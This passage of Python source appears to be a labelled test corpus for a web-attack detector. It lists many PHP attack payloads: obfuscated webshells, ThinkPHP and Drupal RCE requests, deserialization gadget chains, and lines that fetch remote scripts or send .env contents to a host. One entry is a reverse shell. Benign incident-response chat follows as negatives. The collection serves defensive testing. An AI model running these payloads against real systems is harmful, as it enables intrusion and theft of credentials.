]

# php-variable-functions: the function name built at run time, from a string, a parameter or a callback API
VARFUNC: list[Entry] = [
    # webshells from the clean-up that never spell out a function name (PHP interpreter)
    "$_GET['f']($_GET['c']);",
    "@$_POST['x']($_POST['y']);",
    "$_GET[a]($_GET[b]);",
    "$a='sys'.'tem';$a('id');",
    "$f=str_rot13('flfgrz');$f('id');",
    "$f=strrev('metsys');$f('id');",
    "$f=base64_decode('c3lzdGVt');$f($_GET['c']);",
    "$c=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$c('id');",
    "('system')('id');",
    "(sy.(st).em)(whoami);",
    "\"\\x73\\x79\\x73\\x74\\x65\\x6d\"('id');",
    "$_=\"{\";$_=($_^\"<\").($_^\">;\").($_^\"/\");${'_'.$_}['_'](${'_'.$_}['__']);",
    # callback APIs: the callback is the command function
    "call_user_func('system','id');",
    "call_user_func_array('exec',array('id'));",
    "array_map('system',array('id'));",
    "array_filter(array('id'),'system');",
    "register_shutdown_function('system','id');",
    "filter_var($_GET['c'],FILTER_CALLBACK,array('options'=>'system'));",
    "ob_start('system');echo 'id';ob_end_flush();",
    "$e=$_REQUEST['e'];$arr=array($_POST['pass'],);array_filter($arr,base64_decode($e));",
    "(new ReflectionFunction('system'))->invoke('id');",
    "$x=create_function('$a','return system($a);');$x('id');",
    # ThinkPHP 5 invokefunction RCE, the botnet waves as logged
    log("s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id"),
    log("s=index/\\think\\Container/invokefunction&function=call_user_func_array&vars[0]=file_put_contents"
        "&vars[1][]=s.php&vars[1][]=%3C%3Fphp+%40eval(%24_POST%5Bx%5D)%3B%3F%3E"),
    # Drupal 7/8 render arrays (Drupalgeddon 2): the #post_render callback is exec
    log("form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup"
        "&mail[#markup]=id", body=True),
    log("form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=passthru&mail[#type]=markup"
        "&mail[#markup]=wget+-qO-+http%3A%2F%2F198.51.100.7%2Fd.sh|sh", body=True),
]

# php-wrappers: stream wrappers handed to include(), file_get_contents() or a file-write sink
WRAPPERS: list[Entry] = [
    # LFI on ?page= of a brochure site: read the source and the config (PHP include)
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/convert.base64-encode/resource=../wp-config.php",
    "php://filter/read=string.rot13/resource=config.php",
    "php://filter/read=convert.quoted-printable-encode/resource=/var/www/html/config.inc.php",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/.env",
    "php://filter/convert.iconv.utf-8.utf-16le|convert.base64-encode/resource=/etc/passwd",
    "PhP://FiLtEr/convert.base64-encode/resource=index",
    # php://input: the code rides in the POST body (allow_url_include on)
    "php://input",
    "pHp://InPuT",
    # data:// carries the code itself
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
    "data://text/plain,<?php system('id');?>",
    "data://text/plain;base64,PD9waHAgQGV2YWwoJF9QT1NUWyJwYXNzIl0pOz8+",
    "data:text/plain,<?php phpinfo();?>",
    "data:;base64,PD9waHAgZXZhbCgkX1BPU1RbMV0pOz8+",
    # expect:// runs a command where the extension is installed
    "expect://id",
    "expect://curl${IFS}-s${IFS}http://198.51.100.7/x|sh",
    # phar:// on an uploaded image triggers metadata deserialization; compress.zlib:// hides the phar prefix
    "phar:///var/www/html/wp-content/uploads/2024/06/avatar.jpg/test.txt",
    "phar://./uploads/x.gif/a",
    "compress.zlib://phar:///tmp/uploads/x.png/a",
    # zip:// and rar:// pull a PHP file out of an uploaded archive
    "zip:///var/www/html/uploads/photo.zip#shell.php",
    "zip://uploads/avatar.jpg%23x",
    "rar://uploads/docs.rar#s.php",
    # glob:// lists directories through DirectoryIterator (finding the upload folder)
    "glob:///var/www/html/*.php",
    "glob://../../*",
    # the file-write sink: base64-decode filter strips the exit; prefix and writes a working shell
    "php://filter/write=convert.base64-decode/resource=s.php",
    "php://filter/write=string.rot13/resource=x.php",
    "ssh2.exec://root:toor@127.0.0.1:22/id",
    # as logged: encoded once, and twice by the second attacker
    log("page=php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex&_=1718040000"),
    log("file=php%253A%252F%252Finput&x=1"),
]

# php-object-injection: serialized objects in cookies and parameters that reach unserialize()
OBJECTS: list[Entry] = [
    # custom PHP shop: the cart cookie is unserialize()d; privilege and price tampering
    ("O:4:\"User\":2:{s:8:\"username\";s:5:\"admin\";s:7:\"isAdmin\";b:1;}", *COOKIE),
    "O:7:\"Session\":3:{s:7:\"user_id\";i:1;s:4:\"role\";s:13:\"administrator\";s:9:\"logged_in\";b:1;}",
    "a:2:{s:8:\"username\";s:5:\"admin\";s:8:\"password\";b:1;}",
    "O:4:\"Cart\":3:{s:5:\"items\";a:0:{}s:8:\"discount\";i:100;s:5:\"total\";i:0;}",
    # application gadgets with a __destruct() that writes or deletes files
    "O:6:\"Logger\":2:{s:7:\"logFile\";s:27:\"/var/www/html/uploads/l.php\";s:7:\"logData\";"
    "s:27:\"<?php system($_GET['c']);?>\";}",
    "O:9:\"CacheItem\":2:{s:4:\"path\";s:23:\"/var/www/html/shell.php\";s:7:\"content\";"
    "s:27:\"<?php eval($_REQUEST[0]);?>\";}",
    "O:8:\"Template\":2:{s:9:\"cacheFile\";s:30:\"../../../../var/www/html/x.php\";s:4:\"data\";"
    "s:15:\"<?=`$_GET[1]`?>\";}",
    "O:18:\"PHPObjectInjection\":1:{s:6:\"inject\";s:13:\"system('id');\";}",
    "O:7:\"Example\":1:{s:4:\"hook\";s:10:\"phpinfo();\";}",
    "O:10:\"FileDelete\":1:{s:8:\"filename\";s:23:\"/var/www/html/.htaccess\";}",
    # the variants after `O:<digits>:` was blocked: plus sign, array wrapper, S: with hex escapes
    "O:+4:\"User\":2:{s:8:\"username\";s:5:\"admin\";s:7:\"isAdmin\";b:1;}",
    "a:1:{i:0;O:4:\"User\":2:{s:8:\"username\";s:5:\"admin\";s:7:\"isAdmin\";b:1;}}",
    "O:4:\"User\":2:{S:8:\"\\75sername\";s:5:\"admin\";S:7:\"\\69sAdmin\";b:1;}",
    # C: (Serializable) formats
    "C:11:\"ArrayObject\":85:{x:i:0;a:1:{i:0;O:4:\"User\":2:{s:8:\"username\";s:5:\"admin\";s:7:\"isAdmin\";"
    "b:1;}};m:a:0:{}}",
    "C:16:\"SplObjectStorage\":116:{x:i:1;O:6:\"Logger\":2:{s:7:\"logFile\";s:19:\"/var/www/html/l.php\";"
    "s:7:\"logData\";s:18:\"<?php phpinfo();?>\";},N;;m:a:0:{}}",
    # WordPress core gadget (before 5.5.2): the filtered iterator's callback runs on each element
    "C:33:\"Requests_Utility_FilteredIterator\":66:{x:i:0;a:1:{i:0;s:2:\"id\";};m:a:1:{s:11:\"\0*\0callback\";"
    "s:6:\"system\";}}",
    # Laravel (PendingBroadcast + Faker) as used after an APP_KEY leak, raw and base64 in the cookie
    "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\0*\0events\";O:15:\"Faker\\Generator\":1:"
    "{s:13:\"\0*\0formatters\";a:1:{s:8:\"dispatch\";s:6:\"system\";}}s:8:\"\0*\0event\";"
    "s:38:\"curl -s http://198.51.100.14/l.sh|bash\";}",
    ("Tzo0MDoiSWxsdW1pbmF0ZVxCcm9hZGNhc3RpbmdcUGVuZGluZ0Jyb2FkY2FzdCI6Mjp7czo5OiIAKgBldmVudHMiO086MTU6IkZha2VyX"
     "EdlbmVyYXRvciI6MTp7czoxMzoiACoAZm9ybWF0dGVycyI7YToxOntzOjg6ImRpc3BhdGNoIjtzOjY6InN5c3RlbSI7fX1zOjg6IgAqAGV2"
     "ZW50IjtzOjI6ImlkIjt9", *COOKIE),
    # Monolog (SyslogUdpHandler + BufferHandler) processors run system() on the buffered record
    "O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\0*\0socket\";O:29:\"Monolog\\Handler\\BufferHandler\":7:"
    "{s:10:\"\0*\0handler\";O:29:\"Monolog\\Handler\\BufferHandler\":7:{s:10:\"\0*\0handler\";N;"
    "s:13:\"\0*\0bufferSize\";i:-1;s:9:\"\0*\0buffer\";a:1:{i:0;a:2:{i:0;s:2:\"id\";s:5:\"level\";N;}}"
    "s:8:\"\0*\0level\";N;s:14:\"\0*\0initialized\";b:1;s:14:\"\0*\0bufferLimit\";i:-1;s:13:\"\0*\0processors\";"
    "a:2:{i:0;s:7:\"current\";i:1;s:6:\"system\";}}s:13:\"\0*\0bufferSize\";i:-1;s:9:\"\0*\0buffer\";"
    "a:1:{i:0;a:2:{i:0;s:2:\"id\";s:5:\"level\";N;}}s:8:\"\0*\0level\";N;s:14:\"\0*\0initialized\";b:1;"
    "s:14:\"\0*\0bufferLimit\";i:-1;s:13:\"\0*\0processors\";a:2:{i:0;s:7:\"current\";i:1;s:6:\"system\";}}}",
    # Guzzle FileCookieJar writes a webshell into the uploads folder on destruct
    "O:31:\"GuzzleHttp\\Cookie\\FileCookieJar\":4:{s:41:\"\0GuzzleHttp\\Cookie\\FileCookieJar\0filename\";"
    "s:39:\"/var/www/html/wp-content/uploads/.s.php\";s:52:\"\0GuzzleHttp\\Cookie\\FileCookieJar\0"
    "storeSessionCookies\";b:1;s:36:\"\0GuzzleHttp\\Cookie\\CookieJar\0cookies\";a:1:{i:0;"
    "O:27:\"GuzzleHttp\\Cookie\\SetCookie\":1:{s:33:\"\0GuzzleHttp\\Cookie\\SetCookie\0data\";a:3:{s:7:\"Expires\";"
    "i:1;s:7:\"Discard\";b:0;s:5:\"Value\";s:26:\"<?php eval($_POST['k']);?>\";}}}"
    "s:39:\"\0GuzzleHttp\\Cookie\\CookieJar\0strictMode\";N;}",
    # Yii2 BatchQueryResult chain
    "O:23:\"yii\\db\\BatchQueryResult\":1:{s:36:\"\0yii\\db\\BatchQueryResult\0_dataReader\";"
    "O:15:\"Faker\\Generator\":1:{s:13:\"\0*\0formatters\";a:1:{s:5:\"close\";a:2:{i:0;"
    "O:20:\"yii\\rest\\IndexAction\":2:{s:11:\"checkAccess\";s:6:\"system\";s:2:\"id\";s:2:\"id\";}i:1;"
    "s:3:\"run\";}}}}",
    # Joomla 1.5-3.4.5 session object injection (December 2015 wave): User-Agent, truncated by a 4-byte character
    "}__test|O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";O:17:\"JSimplepieFactory\":0:{}"
    "s:21:\"\\0\\0\\0disconnectHandlers\";a:1:{i:0;a:2:{i:0;O:9:\"SimplePie\":5:{s:8:\"sanitize\";"
    "O:20:\"JDatabaseDriverMysql\":0:{}s:8:\"feed_url\";s:36:\"phpinfo();JFactory::getConfig();exit\";"
    "s:19:\"cache_name_function\";s:6:\"assert\";s:5:\"cache\";b:1;s:11:\"cache_class\";"
    "O:20:\"JDatabaseDriverMysql\":0:{}}i:1;s:4:\"init\";}}s:13:\"\\0\\0\\0connection\";b:1;}\U0001d306",
    "}__test|O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";O:17:\"JSimplepieFactory\":0:{}"
    "s:21:\"\\0\\0\\0disconnectHandlers\";a:1:{i:0;a:2:{i:0;O:9:\"SimplePie\":5:{s:8:\"sanitize\";"
    "O:20:\"JDatabaseDriverMysql\":0:{}s:8:\"feed_url\";"
    "s:70:\"eval(base64_decode($_SERVER['HTTP_X_CMD']));JFactory::getConfig();exit\";"
    "s:19:\"cache_name_function\";s:6:\"assert\";s:5:\"cache\";b:1;s:11:\"cache_class\";"
    "O:20:\"JDatabaseDriverMysql\":0:{}}i:1;s:4:\"init\";}}s:13:\"\\0\\0\\0connection\";b:1;}\U0001d306",
    # vBulletin 5 decodeArguments (2015): the logged request, NULs percent-encoded
    log("routestring=ajax/api/hook/decodeArguments&arguments=a:1:{i:0;O:12:%22vB_dB_Result%22:2:{s:5:%22%00*%00db"
        "%22;O:17:%22vB_Database_MySQL%22:1:{s:9:%22functions%22;a:1:{s:11:%22free_result%22;s:6:%22assert%22;}}"
        "s:12:%22%00*%00recordset%22;s:20:%22var_dump(md5(1337));%22;}}"),
    ("Tzo0OiJVc2VyIjoyOntzOjg6InVzZXJuYW1lIjtzOjU6ImFkbWluIjtzOjc6ImlzQWRtaW4iO2I6MTt9", *COOKIE),
]

# php-config-directives: ini settings forced through PHP-CGI arguments, php-fpm PHP_VALUE, .htaccess, .user.ini
CONFIG: list[Entry] = [
    # PHP-CGI argument injection (2012), and the 2024 XAMPP-on-Windows wave with the soft hyphen (%AD)
    log("-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
    log("%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp%3A//input"),
    log("-d+safe_mode%3dOff+-d+disable_functions%3dNULL+-d+open_basedir%3dnone+-d+auto_prepend_file%3dphp%3a%2f%2f"
        "input+-d+cgi.force_redirect%3d0+-d+cgi.redirect_status_env%3d0+-n"),
    log("-s"),
    log("%ADs"),
    ("-d allow_url_include=1 -d auto_prepend_file=php://input", "param-name", "rs-param-name"),
    "-d allow_url_include=on -d auto_prepend_file=http://198.51.100.9/x.txt",
    # php-fpm PHP_VALUE injection through the path (nginx + fpm_split_path_info, 2019): lines as the tool sent them
    ("PHP_VALUE\nsession.auto_start=1;;;", *PATH),
    ("PHP_VALUE\nshort_open_tag=1;;;;;;;", *PATH),
    ("PHP_VALUE\nauto_prepend_file=a;;;;;;", *PATH),
    ("PHP_VALUE\nlog_errors=1;;;;;;;;;;;;", *PATH),
    ("PHP_VALUE\nerror_log=/tmp/a;;;;;;;;", *PATH),
    ("PHP_VALUE\ninclude_path=/tmp;;;;;;;", *PATH),
    # the same settings through a FastCGI record smuggled by SSRF
    "PHP_VALUE=auto_prepend_file = php://input\nPHP_ADMIN_VALUE=allow_url_include = On",
    "PHP_ADMIN_VALUE=allow_url_include=On\nauto_prepend_file=http://198.51.100.9/s.txt",
    # .user.ini and .htaccess contents uploaded next to an image shell
    "auto_prepend_file=.shell.jpg",
    "auto_prepend_file=/var/www/html/uploads/avatar.gif",
    "auto_append_file=php://input",
    "php_value auto_prepend_file \"/tmp/sess_4f2a9c\"",
    "php_flag engine on",
    "AddType application/x-httpd-php .jpg",
    "<FilesMatch \"\\.jpg$\">SetHandler application/x-httpd-php</FilesMatch>",
    "php_admin_value open_basedir none",
    "php_flag register_globals on",
    # open_basedir escape in a compromised shared host
    "chdir('img');ini_set('open_basedir','..');chdir('..');chdir('..');ini_set('open_basedir','/');"
    "echo file_get_contents('/etc/passwd');",
    "ini_set('allow_url_include','1');include('http://198.51.100.9/s.txt');",
]

# php-superglobals: the request arrays the shell reads its commands from, and register_globals-era overwrites
SUPERGLOBALS: list[Entry] = [
    # China Chopper / AntSword one-liners and their first request (PHP interpreter)
    "@eval($_POST['ant']);",
    "<?php @eval($_POST['caidao']);?>",
    log("ant=%40ini_set(%22display_errors%22%2C%220%22)%3B%40set_time_limit(0)%3Becho+%22->%7C%22%3B"
        "echo+getcwd()%3Becho+%22%7C<-%22%3Bdie()%3B", body=True),
    log("z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpOw%3D%3D&caidao=%40eval(base64_decode(%24_POST%5Bz0%5D))%3B",
        body=True),
    "eval($_REQUEST['cmd']);",
    "${@eval($_POST[1])}",
    "assert($_REQUEST['a']);",
    "echo `$_REQUEST[c]`;",
    "@preg_replace('/x/e',$_POST['c'],'x');",
    "include($_GET['p']);",
    "@system($_SERVER[\"HTTP_ACCEPT_LANGUAGE\"]);",
    "system($_SERVER['HTTP_USER_AGENT']);",
    "eval(base64_decode($_COOKIE['k']));",
    "if(isset($_COOKIE['pw'])&&md5($_COOKIE['pw'])=='5f4dcc3b5aa765d61d8327deb882cf99'){eval($_POST['c']);}",
    "$GLOBALS['_GET']['a']($GLOBALS['_GET']['b']);",
    "${$_GET['v']}=$_GET['c'];",
    "extract($_REQUEST);$a($b);",
    "move_uploaded_file($_FILES['f']['tmp_name'],$_FILES['f']['name']);",
    "$_SESSION['admin']=1;",
    "eval(getenv('HTTP_X_CMD'));",
    "@$_=\"s\".\"s\"./*-/*-*/\"e\"./*-/*-*/\"r\";@$_=/*-/*-*/\"a\"./*-/*-*/$_./*-/*-*/\"t\";"
    "@$_/*-/*-*/($/*-/*-*/{\"_P\"./*-/*-*/\"OS\"./*-/*-*/\"T\"}/*-/*-*/[/*-/*-*/0/*-/*-*/-/*-/*-*/2/*-/*-*/-"
    "/*-/*-*/5/*-/*-*/]);",
    # register_globals-era overwrites still thrown at old installs
    log("_SESSION[logged_in]=1&_SESSION[user_id]=1&_SESSION[role]=admin"),
    log("GLOBALS[_SERVER][REMOTE_ADDR]=127.0.0.1&a=1"),
    log("_SERVER[DOCUMENT_ROOT]=http://198.51.100.9/shell.txt?&cmd=id"),
    log("_COOKIE[admin]=1&_REQUEST[debug]=1"),
    log("_GET[file]=php://input&_POST[c]=phpinfo();", body=True),
    ua("<?php eval($_SERVER['HTTP_X_FORWARDED_HOST']);?>"),
]

# php-file-upload: the file names of uploads that put PHP where the web server runs it
UPLOADS: list[Entry] = [
    # the WordPress file-manager connector wave (2020): names as they sat in the upload folder
    upload("x.php"),
    upload("wso.php"),
    upload("alfa.php"),
    upload("up.php"),
    upload("wp-login.php"),
    # alternative extensions PHP handlers map
    upload("shell.phtml"),
    upload("shell.pht"),
    upload("shell.php5"),
    upload("shell.php7"),
    upload("shell.phar"),
    upload("avatar.png.phar"),
    upload("shell.pHtMl"),
    upload("shell.PhP"),
    # double extensions and separators for the Apache AddHandler and IIS parsing bugs
    upload("shell.php.jpg"),
    upload("shell.jpg.php"),
    upload("shell.php;.jpg"),
    upload("shell.php\x00.jpg"),
    upload("shell.php%00.jpg"),
    upload("shell.php."),
    upload("shell.php "),
    upload("shell.php::$DATA"),
    upload("shell.php...."),
    # the config files that make images executable
    upload(".htaccess"),
    upload(".user.ini"),
    # a traversal in the name to land outside the upload folder
    upload("../../shell.php"),
    upload("..%2F..%2Findex.php"),
    upload("filename*=UTF-8''sh%65ll.php"),
]

# php-high-risk-function-names: reconnaissance, persistence, exfiltration and disable_functions bypasses
HIGHRISK: list[Entry] = [
    # reconnaissance once code ran (PHP interpreter)
    "phpinfo();",
    "echo php_uname();",
    "var_dump(ini_get('disable_functions'));",
    "print_r(scandir('/var/www/html'));",
    "var_dump(glob('/home/*/public_html/wp-config.php'));",
    "highlight_file('/var/www/html/wp-config.php');",
    "show_source('config.php');",
    "readfile('/etc/passwd');",
    "echo file_get_contents('/var/www/html/.env');",
    "var_dump(posix_getpwuid(posix_geteuid()));",
    "print_r(get_defined_vars());",
    # disable_functions bypasses: LD_PRELOAD through mail(), imap_open ProxyCommand, dl()
    "putenv('LD_PRELOAD=/tmp/x.so');mail('a','a','a','a');",
    "putenv('LD_PRELOAD=/var/www/html/uploads/b.so');error_log('a',1);",
    "imap_open('{x -oProxyCommand=echo\tZWNobyBoYWNrZWQ+L3RtcC90ZXN0|base64\t-d|sh}','','');",
    "dl('/tmp/x.so');",
    "mail('a@b.c','x','y','','-OQueueDirectory=/tmp -X/var/www/html/x.php');",
    # persistence: write a shell, symlink the root, timestomp, lock the file
    "file_put_contents('wp-includes/class-wp-cache.php','<?php @eval($_POST[1]);?>');",
    "fwrite(fopen('../index.php','a'),base64_decode($_POST['d']));",
    "error_log('<?php system($_GET[c]);?>',3,'/var/www/html/wp-content/uploads/e.php');",
    "symlink('/','/var/www/html/uploads/root');",
    "touch('wp-config.php',strtotime('-400 days'));",
    "chmod('index.php',0444);",
    # exfiltration and clean-up of traces
    "mail('drop@mail-box.top',$_SERVER['HTTP_HOST'],file_get_contents('wp-config.php'));",
    "$c=curl_init('http://198.51.100.7/c');curl_setopt($c,CURLOPT_POSTFIELDS,file_get_contents('.env'));"
    "curl_exec($c);",
    "$s=stream_socket_client('tcp://198.51.100.77:4444');while($l=fgets($s)){fwrite($s,shell_exec($l));}",
    "array_map('unlink',glob('/var/log/apache2/*.log'));",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", LIBXSS),
    ("xss", "script-tag", SCRIPT),
    ("xss", "event-handler", EVENT),
    ("xss", "attribute-vector", ATTRIBUTE),
    ("xss", "javascript-uri", JSURI),
    ("xss", "html-injection", HTMLINJ),
    ("xss", "svg-mathml", SVG),
    ("xss", "css-expression", CSS),
    ("xss", "template-literal-dom-sink", DOMSINK),
    ("xss", "ie-filter-vectors", IEVEC),
    ("xss", "encoded-entity-vectors", ENCODED),
    ("xss", "angular-vue-client-templates", CLIENTTPL),
    ("php", "php-open-tag", OPENTAG),
    ("php", "php-function-call", FUNCALL),
    ("php", "php-variable-functions", VARFUNC),
    ("php", "php-wrappers", WRAPPERS),
    ("php", "php-object-injection", OBJECTS),
    ("php", "php-config-directives", CONFIG),
    ("php", "php-superglobals", SUPERGLOBALS),
    ("php", "php-file-upload", UPLOADS),
    ("php", "php-high-risk-function-names", HIGHRISK),
]


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    names = ["q", "search", "next", "redirect", "callback", "name", "comment", "lang", "file", "template", "view"]
    kv_safe = BlindSet.kv_safe + "%+"   # a logged line keeps its own escapes
    raw_places = ("query", "rs-query", "form", "rs-raw-body", "param-name", "rs-param-name")
    upload = "GIF89a"
    file_type = "image/gif"
    unique = True
    fit_fixed = True
    xml_controls = "\n\t"

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        """A line copied out of an access log goes as it was logged."""
        return fixed and payload in LOG_LINES

    def fits(self, place: str, v: str) -> bool:
        """The path and cookies percent-encode what they carry (the path: printable ASCII and newlines, short)."""
        if place in ("path", "rs-path"):
            return len(v) < 400 and all(" " <= ch <= "~" or ch == "\n" for ch in v)
        if place in ("cookie", "rs-cookie"):
            return len(v) < 2000
        return super().fits(place, v)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (an incident-response team and SREs in Slack, on-call bios, searches for
# colleagues on the rota, links to status pages and post-mortems, admin notes, report file names, ordinary headers)
CHAT = [
    # incident channel: timelines and hand-offs
    "INC-4821 declared SEV2 at 02:14 UTC, api-gw-03 returning 502s, Priya is IC, I'm on comms",
    "timeline so far: 01:52 first 5xx, 02:03 rollback started, 02:19 error rate back under 0.1%",
    "we rotated the AWS keys and the Slack bot token at 03:40, old ones are revoked",
    "rotated the DB password for the reporting user too, vault has the new one",
    "the alert fired twice because the threshold was 1% for 2 minutes, we'll tune it after the review",
    "PagerDuty alert for disk usage on web-07 was a false alarm, logrotate had stalled",
    "ack'd the page, looking at the php-fpm pool on web-02, max_children reached again",
    "php-fpm slow log shows the export script stuck in curl_exec for 30s on every request",
    "quoting the error from the worker: PHP Fatal error: Allowed memory size of 134217728 bytes exhausted",
    "PHP Warning: Undefined array key \"email\" in /var/www/app/src/Export.php on line 88, harmless but noisy",
    "the cron that calls system() to run the backup script failed because the disk was full",
    "we found the script that was exec'ing wget every minute, it was our own old health check",
    "handing over to EU on-call, open items are in the incident doc under 'follow-ups'",
    "status page updated: 'Investigating elevated error rates on the API', next update in 30 minutes",
    "post-mortem draft is up, please add your part of the timeline before Thursday",
    "blameless reminder: the review is about the process, not about who pushed the config",
    "customer impact: about 4% of logins failed between 02:05 and 02:18",
    "I'll write the customer-facing summary, can someone pull the exact request counts from the dashboards",
    # intrusion response (no payloads, just the story)
    "SEC-1192: the old marketing WordPress had a vulnerable plugin, the host is isolated and imaged",
    "found three unknown .php files in the uploads folder of the legacy blog, hashes sent to the vendor",
    "the attacker's IPs were all in 203.0.113.0/24 and 198.51.100.0/24, blocked at the edge since 04:10",
    "WAF logs show the scanning started on Sunday, mostly probes for wp-login.php and xmlrpc.php",
    "we're treating the admin cookies of the old CMS as burned, everyone gets logged out tonight",
    "forensics copy of web-11 is in the evidence bucket, chain of custody form is in the ticket",
    "the XSS report from the bug bounty is confirmed on the staging help center, fix deployed, bounty approved",
    "CSP is now enforced on the help center, script-src self plus the analytics CDN only",
    "pen test retest passed, the stored XSS in the ticket subject is closed",
    "legal wants the list of affected accounts by Friday, I'm exporting it from the audit log",
    "the phishing page copied our login screen, takedown request sent to the registrar",
    "please don't paste live indicators in this channel, put them in the IOC sheet",
    "the deserialization finding in the legacy shop is fixed, we switched the cart cookie to JSON",
    "turned off allow_url_include on the last two legacy hosts, it was on from a 2014 template",
    "audit of php.ini across the fleet: disable_functions is consistent now",
    "we removed the eval-based plugin loader, the new one uses composer autoload",
    "the alert about base64 blobs in POST bodies was the mobile app's image upload, tuned",
    "iframe embeds from the status page are allowed by the new frame-ancestors rule",
    "svg uploads are converted to png on the way in now, the sanitizer ticket is closed",
    "moved the onerror handlers out of the templates, all inline JS is gone from the dashboard",
    # SRE chatter
    "deploy freeze starts Friday 18:00, only incident fixes after that",
    "the canary on 5% looks fine, promoting to 25% at 14:00",
    "load balancer health checks hit /healthz every 5s, the graph spike is just the new region",
    "anyone know why the php 8.3 image is 40 MB bigger? composer cache left in the layer",
    "the shell script for cert renewal now logs to journald",
    "redis failover test went fine, 11 seconds of write errors, within budget",
    "the javascript bundle grew 300 KB after the chart library upgrade, opening a ticket",
    "runbook for the queue backlog is updated, step 4 now says scale workers before draining",
    "who owns the template engine upgrade? the old one is end of life in June",
    "the object storage bill doubled, it's the debug logs, setting a 14 day lifecycle",
    "we're moving the cron jobs from the web hosts to the scheduler, one less reason to ssh in",
    "DNS TTL is 300 now so the failover is quicker",
    "is the alerting channel muted for everyone or just me?",
    # admin notes
    "blocked 45.0.0.0/8 by mistake for 6 minutes, reverted, sorry to the APAC users",
    "edge rule: rate limit /login to 10 per minute per IP, in effect since the credential stuffing last week",
    "unblocked 192.0.2.15, it was the monitoring vendor's new probe address",
    "allowlist for the partner's webhook range is in the edge config, ticket NET-318",
    # bios
    "SRE, on-call for payments every fourth week. I write runbooks and delete alerts nobody reads.",
    "Incident commander, ex-firefighter. Calm voice, long timelines.",
    "Security engineer, DFIR. Memory images, disk images, and a lot of coffee.",
    "Platform team. PHP, Go and too much YAML. Pager duty in the EU time zone.",
    "Detection engineer. I tune the WAF and the SIEM so you don't get paged at 3am.",
    "Web developer, front end. JavaScript, Vue and accessibility. Not on the rota.",
    "Support lead. If a customer says 'the site shows a script error', I'm the one who files it.",
    "Secondary on-call this week, primary is Tomasz. Ping me after 18:00 CET.",
    "Writes post-mortems for fun. Ask me about the 2022 DNS outage.",
    "Backend engineer on the legacy PHP platform, slowly migrating it away.",
]

SEARCHES = [
    "priya", "tomasz", "on-call", "oncall", "sre", "incident commander", "dfir", "security", "platform",
    "payments on-call", "eu rota", "apac rota", "secondary", "primary on-call", "comms lead", "scribe",
    "php", "javascript", "vue", "angular", "frontend", "web team", "detection", "waf", "soc",
    "forensics", "status page", "post-mortem", "script", "alert", "shell", "system", "eval", "template",
    "iframe", "svg", "o'neill", "marie-claire", "jean-luc", "björn",
]

URLS = [
    "https://status.example.com/incidents/8x2k4m9q7t1v",
    "https://status.example.com/history?page=2",
    "https://wiki.example.com/postmortems/2024-06-11-api-gateway-502s",
    "https://wiki.example.com/runbooks/php-fpm-pool-exhausted",
    "https://wiki.example.com/security/ir-playbook#containment",
    "https://jira.example.com/browse/SEC-1192",
    "https://jira.example.com/browse/INC-4821",
    "https://www.php.net/manual/en/function.system.php",
    "https://www.php.net/manual/en/ini.core.php#ini.allow-url-include",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/CSP",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://owasp.org/www-community/attacks/xss/",
    "https://wordpress.org/news/category/security/",
    "https://sre.google/sre-book/postmortem-culture/",
    "https://response.pagerduty.com/during/during_an_incident/",
    "https://www.cisa.gov/known-exploited-vulnerabilities-catalog",
    "https://grafana.example.com/d/edge/edge-overview?orgId=1&from=now-6h&to=now",
    "https://app.example.com/admin/users?team=sre&sort=oncall",
]

PROSE = [
    "on-call rota for July",
    "who is primary on-call this week",
    "incident commander training attendees",
    "SEV1 post-mortem reviewers",
    "security incident response team",
    "people with access to the evidence bucket",
    "users blocked by the edge rule on 11 June",
    "blocked IP range 203.0.113.0/24 - attacker infrastructure, do not unblock",
    "blocked range 198.51.100.0/24 (SEC-1192)",
    "accounts logged out after the cookie rotation",
    "admins of the legacy WordPress blog",
    "PHP platform owners",
    "javascript guild",
    "script maintainers for the backup job",
    "alert routing owners",
    "shell access holders (production)",
    "system accounts",
    "eval team for the vendor review",
    "template owners for the help center",
    "iframe embed approvers",
    "svg icon library contributors",
    "Error: php-fpm[1234]: WARNING: [pool www] server reached pm.max_children setting (50)",
    "\"upstream timed out (110: Connection timed out) while reading response header from upstream\"",
    "report: INC-4821 customer impact summary",
    "tabletop exercise participants Q3",
    "DFIR retainer contacts",
    "people who rotated keys on 12 June",
    "comms lead backup",
    "status page editors",
    "Tomasz (secondary) - swap with Priya on the 14th",
    "vendors with VPN access",
    "leavers whose tokens must be revoked",
    "phishing simulation clickers (training)",
    "bug bounty triage rota",
    "on-call handover notes owners",
]

PROFILES = [
    ("Priya Raman", "Incident Response, Floor 4, Dublin"),
    ("Tomasz Nowak", "SRE Platform, ul. Prosta 51, Warsaw"),
    ("Marie-Claire Dubois", "Security Operations, Rue de Rivoli 10, Paris"),
    ("Jean-Luc Martin", "On-call Desk, Lyon"),
    ("Björn Lindqvist", "Detection Engineering, Stockholm"),
    ("Siobhan O'Neill", "DFIR, Grand Canal Dock, Dublin"),
